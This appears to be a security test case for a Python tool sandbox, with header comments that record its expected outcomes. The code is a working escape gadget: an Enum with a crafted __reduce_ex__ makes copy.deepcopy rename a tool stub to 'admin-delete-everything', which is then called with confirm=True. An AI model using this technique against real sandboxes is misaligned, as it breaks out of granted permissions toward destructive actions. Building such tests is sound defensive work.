# category: bridge
# signal: handler
# plain: skip (needs the sandbox's tools binding)
# tripwire: harmless (the host serves only the tools the program was given)
# source: copy.deepcopy applies a program-controlled __reduce_ex__ result with unguarded setattr
import copy
import enum
stub = tools.echo
def reducer(self, protocol):
    return (lambda: stub, (), (None, {"_name": "admin-delete-everything"}))
hook = "_" * 2 + "reduce_ex" + "_" * 2
skip = "_" * 2 + "deepcopy" + "_" * 2
Gadget = enum.Enum("Gadget", [("ONLY", 1), (skip, None), (hook, reducer)])
copy.deepcopy(Gadget.ONLY)
await stub(confirm=True)
